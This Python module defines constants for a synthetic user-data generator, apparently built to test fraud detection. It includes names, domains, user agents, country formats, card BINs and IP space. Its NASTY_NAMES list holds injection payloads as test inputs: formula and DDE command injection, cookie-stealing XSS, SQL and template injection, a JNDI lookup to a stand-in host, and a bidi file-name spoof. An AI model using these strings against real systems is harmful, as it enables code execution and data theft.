"""Word lists and reference values the synthetic generator draws from.

Everything here is a constant: plausible names, e-mail providers, user agents, countries with
their phone and postal formats, card BINs, network operators (ASNs) and address space. Lists
that real traffic draws from unevenly carry weights, so the generator can reproduce the heavy
tails (a few browsers, providers and banks dominate) that make naive "shared value" rules
noisy. Non-ASCII text is written with escapes so that no visually ambiguous character hides
in the source.
"""

from __future__ import annotations

import numpy as np

__all__ = [
    "ASN_HOSTING",
    "ASN_MOBILE",
    "ASN_RESIDENTIAL",
    "BINS",
    "BIN_WEIGHTS",
    "COUNTRIES",
    "COUNTRY_WEIGHTS",
    "DISPOSABLE_DOMAINS",
    "EMAIL_DOMAINS",
    "EMAIL_DOMAIN_WEIGHTS",
    "FIRST_ASCII",
    "FIRST_NAMES",
    "HOSTING_OCTETS",
    "LAST_ASCII",
    "LAST_NAMES",
    "NASTY_NAMES",
    "OBS_KINDS",
    "RESIDENTIAL_OCTETS",
    "UA_WEIGHTS",
    "USER_AGENTS",
    "V6_HOSTING",
    "V6_MOBILE",
    "V6_RESIDENTIAL",
    "VIRTUAL_BINS",
    "WORDS",
    "Country",
    "zipf_weights",
]


def zipf_weights(k: int, s: float = 1.1, offset: float = 1.0) -> np.ndarray:
    """Normalised Zipf-like weights ``1 / (rank + offset) ** s`` for ``k`` ranked items."""
    w = 1.0 / (np.arange(k, dtype=np.float64) + offset) ** s
    return w / w.sum()


def _split(entries: str) -> tuple[tuple[str, ...], tuple[str, ...]]:
    """Parse ``display|ascii`` entries; the ASCII form feeds e-mail local parts."""
    disp, asc = [], []
    for item in entries.split():
        d, _, a = item.partition("|")
        disp.append(d.replace("_", " "))
        asc.append((a or d).lower())
    return tuple(disp), tuple(asc)


# Names: mostly ASCII, with enough accented and non-Latin names that text handling is exercised.
FIRST_NAMES, FIRST_ASCII = _split(
    "James Mary John Patricia Robert Jennifer Michael Linda David Elizabeth William Barbara "
    "Richard Susan Joseph Jessica Thomas Sarah Charles Karen Daniel Lisa Matthew Nancy "
    "Anthony Betty Mark Sandra Paul Ashley Steven Emily Andrew Kimberly Kevin Donna Brian "
    "Michelle George Carol Timothy Amanda Ryan Melissa Jacob Deborah Gary Stephanie Nicholas "
    "Rebecca Eric Laura Jonathan Sharon Oliver Amelia Harry Isla Noah Sophie Liam Emma Lucas "
    "Mia Leon Hannah Felix Lena Paul Marie Hugo Chloe Louis Camille Mateo Lucia Diego Sofia "
    "Pablo Valentina Marco Giulia Luca Chiara Arjun Priya Rahul Ananya Rohan Divya Vikram "
    "Kavya Aditya Sneha Gabriel Ana Rafael Beatriz Thiago Larissa Yuki Haruto Sakura Ren "
    "Hina Minjun Jiwoo Seoyeon Wei Jing Lukas Jakub Zuzanna Piotr Agnieszka Daan Sanne "
    "Jos\u00e9|jose Zo\u00eb|zoe Ren\u00e9e|renee Bj\u00f6rn|bjorn S\u00f8ren|soren "
    "Fran\u00e7ois|francois \u0141ukasz|lukasz Ma\u00eblle|maelle In\u00e9s|ines "
    "J\u00fcrgen|jurgen \u00c1lvaro|alvaro \u00c9lodie|elodie Se\u00e1n|sean "
    "\u5c0f\u7fd4|xiaoxiang \u6d69\u5b87|haoyu \u0391\u03bd\u03bd\u03b1|anna "
    "\u0418\u0432\u0430\u043d|ivan \u0645\u062d\u0645\u062f|mohamed"
)
LAST_NAMES, LAST_ASCII = _split(
    "Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez "
    "Lopez Gonzalez Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson "
    "White Harris Sanchez Clark Ramirez Lewis Robinson Walker Young Allen King Wright Scott "
    "Torres Nguyen Hill Flores Green Adams Nelson Baker Hall Rivera Campbell Mitchell Carter "
    "Roberts Patel Shah Singh Kumar Sharma Gupta Evans Hughes Wood Murphy Kelly Walsh Byrne "
    "Schmidt Schneider Fischer Weber Wagner Becker Hoffmann Dubois Moreau Laurent Bernard "
    "Rossi Russo Bianchi Romano Ferrari Silva Santos Oliveira Souza Costa Pereira Tanaka "
    "Suzuki Sato Watanabe Kim Park Choi Jung Chen Wang Zhang Liu Nowak Kowalski Wozniak "
    "de_Jong Jansen Bakker Visser Novak Horvat Andersen Nielsen Larsen Johansson Olsen "
    "O'Brien|obrien O'Connor|oconnor M\u00fcller|muller Gonz\u00e1lez|gonzalez "
    "Garc\u00eda|garcia Br\u00e4uer|brauer L\u00f3pez|lopez Kowalczyk "
    "Wi\u015bniewski|wisniewski \u00d8stergaard|ostergaard \u7530\u4e2d|tanaka "
    "\u738b|wang \u674e|li \u041f\u0435\u0442\u0440\u043e\u0432|petrov"
)

# Free-mail providers dominate; the tail stands for ISP, national and custom domains.
EMAIL_DOMAINS = (
    "gmail.com", "outlook.com", "yahoo.com", "hotmail.com", "icloud.com", "proton.me",
    "comcast.net", "gmx.de", "web.de", "aol.com", "yahoo.co.uk", "orange.fr", "free.fr",
    "qq.com", "naver.com", "yahoo.co.jp", "uol.com.br", "libero.it", "fastmail.com",
    "hey.com", "btinternet.com", "t-online.de", "wp.pl", "live.com", "msn.com",
)
EMAIL_DOMAIN_WEIGHTS = zipf_weights(len(EMAIL_DOMAINS), s=1.3, offset=0.6)

# Throw-away providers and words for ring-owned catch-all domains.
DISPOSABLE_DOMAINS = (
    "mailinator.com", "guerrillamail.com", "10minutemail.net", "yopmail.com",
    "sharklasers.com", "tempmail.dev", "dispostable.com", "maildrop.cc", "trashmail.de",
    "getnada.com",
)
WORDS = (
    "nova", "bright", "pixel", "apex", "swift", "cloud", "zen", "lumen", "orbit", "vertex",
    "quick", "prime", "blue", "stack", "nexa", "hyper", "metro", "delta", "astra", "flux",
    "sunny", "tiger", "maple", "river", "storm", "echo", "lucky", "rapid", "golden", "iron",
)

# ~50 user agents with a steep popularity curve: a few Chrome builds carry most traffic.
USER_AGENTS = tuple(
    "Mozilla/5.0 " + ua
    for ua in (
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.0.0 Safari/537.36",
        "(iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1",
        "(Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "(Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
        "(Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4.1 Safari/605.1.15",
        "(Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "(iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1",
        "(Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.6367.82 Mobile Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.0.0 Safari/537.36",
        "(Macintosh; Intel Mac OS X 10.15; rv:125.0) Gecko/20100101 Firefox/125.0",
        "(X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "(iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1",
        "(Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
        "(X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "(Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
        "(iPhone; CPU iPhone OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        "(Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.0.0 Safari/537.36",
        "(Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/109.0.0.0 Safari/537.36",
        "(iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
        "(Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.0.0 Mobile Safari/537.36",
        "(X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "(Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
        "(Linux; Android 13; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "(Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/16.6 Safari/605.1.15",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
        "(iPhone; CPU iPhone OS 15_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/15.6.6 Mobile/15E148 Safari/604.1",
        "(Linux; Android 11; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/121.0.0.0 Mobile Safari/537.36",
        "(Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "(Linux; Android 14; 23078PND5G) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 YaBrowser/24.4.0.0 Safari/537.36",
        "(Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4.1 Safari/605.1.15 Ddg/17.4.1",
        "(Linux; Android 10; SM-T510) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/118.0.0.0 Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/116.0.0.0 Safari/537.36 Vivaldi/6.2",
        "(X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
        "(Linux; Android 9; SM-J730F) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/110.0.0.0 Mobile Safari/537.36",
        "(iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "FxiOS/125.0 Mobile/15E148 Safari/605.1.15",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36 Brave/124",
        "(Linux; Android 13; CPH2449) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.6261.119 Mobile Safari/537.36",
        "(Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/116.0.0.0 Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Electron/29.1.0 Chrome/122.0.6261.57 Safari/537.36",
        "(Linux; Android 8.1.0; Redmi 6A) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/96.0.4664.45 Mobile Safari/537.36",
        "(X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "HeadlessChrome/124.0.0.0 Safari/537.36",
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/106.0.0.0 Safari/537.36",
        "(X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "HeadlessChrome/119.0.6045.105 Safari/537.36",
        "(Linux; U; Android 4.4.2; en-us; GT-I9505) AppleWebKit/534.30 (KHTML, like Gecko) "
        "Version/4.0 Mobile Safari/534.30",
        "(compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
    )
)
UA_WEIGHTS = zipf_weights(len(USER_AGENTS), s=1.2, offset=2.5)


class Country:
    """A country: ISO code, share of users, UTC offset, phone and postal formats.

    Phone patterns use ``d`` for one digit of the national number (every pattern of a country
    holds the same number of ``d``); the national number is a prefix from ``phone_prefixes``
    followed by seven subscriber digits. Postal patterns use ``9`` for a digit and ``A`` for a
    letter.
    """

    __slots__ = ("code", "phone_patterns", "phone_prefixes", "postal", "utc_offset", "weight")

    def __init__(
        self, code: str, weight: float, utc_offset: float, prefixes: str, patterns: str,
        postal: str,
    ) -> None:
        self.code = code
        self.weight = weight
        self.utc_offset = utc_offset
        self.phone_prefixes = tuple(prefixes.split())
        self.phone_patterns = tuple(p.replace("_", " ") for p in patterns.split())
        self.postal = postal.replace("_", " ")


_US_PATTERNS = "+1_(ddd)_ddd-dddd dddddddddd +1dddddddddd ddd-ddd-dddd (ddd)_ddd-dddd"
COUNTRIES: tuple[Country, ...] = (
    Country("US", 0.34, -6, "415 212 646 312 213 305 512 206 617 702 404 971", _US_PATTERNS,
            "99999"),
    Country("GB", 0.08, 0, "770 791 740 751 780 738", "+44_dddd_dddddd 0dddddddddd "
            "+44dddddddddd", "AA9_9AA"),
    Country("DE", 0.07, 1, "151 160 176 171 157 152", "+49_ddd_ddddddd 0dddddddddd "
            "+49dddddddddd", "99999"),
    Country("FR", 0.05, 1, "61 62 65 70 76 78", "+33_d_dd_dd_dd_dd 0ddddddddd +33ddddddddd",
            "99999"),
    Country("CA", 0.04, -5, "416 647 604 514 403 613", _US_PATTERNS, "A9A_9A9"),
    Country("IN", 0.08, 5.5, "987 998 976 701 812 900", "+91_ddddd_ddddd dddddddddd "
            "+91dddddddddd", "999999"),
    Country("BR", 0.06, -3, "1198 2199 3199 1197 4199", "+55_dd_ddddd-dddd (dd)_ddddd-dddd "
            "+55ddddddddddd", "99999-999"),
    Country("JP", 0.04, 9, "901 801 703 908 806", "+81_dd-dddd-dddd 0dd-dddd-dddd "
            "+81dddddddddd", "999-9999"),
    Country("AU", 0.03, 10, "41 42 43 40 45", "+61_ddd_ddd_ddd 0ddddddddd +61ddddddddd",
            "9999"),
    Country("ES", 0.03, 1, "61 62 63 66 67 69", "+34_ddd_dd_dd_dd ddddddddd +34ddddddddd",
            "99999"),
    Country("IT", 0.03, 1, "320 333 347 348 380 393", "+39_ddd_ddd_dddd dddddddddd "
            "+39dddddddddd", "99999"),
    Country("NL", 0.02, 1, "61 62 63 64 65", "+31_d_dddddddd 0ddddddddd +31ddddddddd",
            "9999_AA"),
    Country("MX", 0.03, -6, "551 331 818 442 222", "+52_dd_dddd_dddd dddddddddd "
            "+52dddddddddd", "99999"),
    Country("PL", 0.02, 1, "50 51 60 66 69 72", "+48_ddd_ddd_ddd ddddddddd +48ddddddddd",
            "99-999"),
    Country("KR", 0.02, 9, "102 103 104 105 106 107", "+82_dd-dddd-dddd 0dd-dddd-dddd "
            "+82dddddddddd", "99999"),
)
COUNTRY_WEIGHTS = np.array([c.weight for c in COUNTRIES]) / sum(c.weight for c in COUNTRIES)

# Card BINs: big issuers dominate; virtual/prepaid BINs are what card-farming rings favour.
BINS = (
    "414720", "426684", "440066", "400022", "517805", "546616", "491653", "475129",
    "453978", "552433", "535522", "379771", "601100", "412345", "438857", "529580",
    "483316", "516732", "402400", "454742", "530125", "411111", "492181", "557039",
    "471618", "489537", "522371", "498765", "456735", "542418",
)
BIN_WEIGHTS = zipf_weights(len(BINS), s=1.0, offset=1.5)
VIRTUAL_BINS = ("485953", "559666", "532959", "403446", "536214", "428837")

# (asn, relative share). Residential ISPs, mobile carriers, and hosting/proxy providers.
ASN_RESIDENTIAL = np.array([
    7922, 7018, 701, 20115, 22773, 5650, 209, 2856, 5089, 3320, 3209, 3215, 12322, 55836,
    28573, 18881, 4713, 2516, 1221, 3352, 3269, 1136, 5617, 4766, 8151, 812, 577, 6830,
], dtype=np.int64)
ASN_MOBILE = np.array([21928, 22394, 20057], dtype=np.int64)
ASN_HOSTING = np.array([
    14061, 16509, 24940, 16276, 63949, 20473, 9009, 60068, 212238, 51167, 396982, 8075,
], dtype=np.int64)

# First octets used for each kind of IPv4 space; disjoint, so a hosting /24 never collides
# with a residential one and no private, CGNAT-internal or reserved range is ever produced.
RESIDENTIAL_OCTETS = np.array([
    2, 5, 24, 31, 37, 46, 47, 50, 66, 67, 68, 69, 70, 71, 72, 73, 75, 76, 77, 78, 79, 80, 81,
    82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92, 93, 94, 95, 96, 97, 98, 99, 107, 108, 109,
    174, 176, 179, 181, 186, 187, 189, 190, 191, 200, 201, 212, 213, 217,
], dtype=np.uint32)
HOSTING_OCTETS = np.array([
    45, 64, 104, 139, 142, 143, 157, 159, 161, 164, 165, 167, 178, 185, 188, 193, 194, 195,
    206, 207, 209,
], dtype=np.uint32)

# IPv6 /32 allocations (top 32 bits) of residential ISPs, one mobile carrier, hosting.
V6_RESIDENTIAL = np.array([
    0x26010000, 0x2A020C7F, 0x2A01E0A0, 0x200300E2, 0x26001700, 0x24050201, 0x28040D40,
    0x240B0010, 0x2A010CB0, 0x2A0206B8,
], dtype=np.uint64)
V6_MOBILE = np.array([0x2607FB90], dtype=np.uint64)
V6_HOSTING = np.array([0x2A0104F8, 0x2604A880, 0x200141D0], dtype=np.uint64)

# The ``kind`` values of the observations table, in the order the generator codes them.
OBS_KINDS = ("referral_code", "shipping_address_hash", "api_key_prefix")

# Attacker-controlled display names: spreadsheet formulas, markup, injection, bidi and
# zero-width tricks, combining marks, emoji, quote/comma/newline that break naive CSV.
NASTY_NAMES = (
    '=HYPERLINK("http://x.example/login","Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "Robert'); DROP TABLE accounts;--",
    "' OR '1'='1",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "\u202egnp.exe",
    "adm\u200bin",
    "Z\u0351\u0308\u034ba\u0361l\u035bg\u0489o",
    "\uff41\uff44\uff4d\uff49\uff4e",
    "\U0001f4b0\U0001f4b0 free credits \U0001f4b0",
    'O"Brien, Jr.\tCEO',
    "line one\nline two",
    "null",
    "NaN",
    "   ",
    "x" * 300,
    "\u0627\u0644\u0645\u062f\u064a\u0631",
    "\u4e2d\u6587\u540d\u5b57",
)
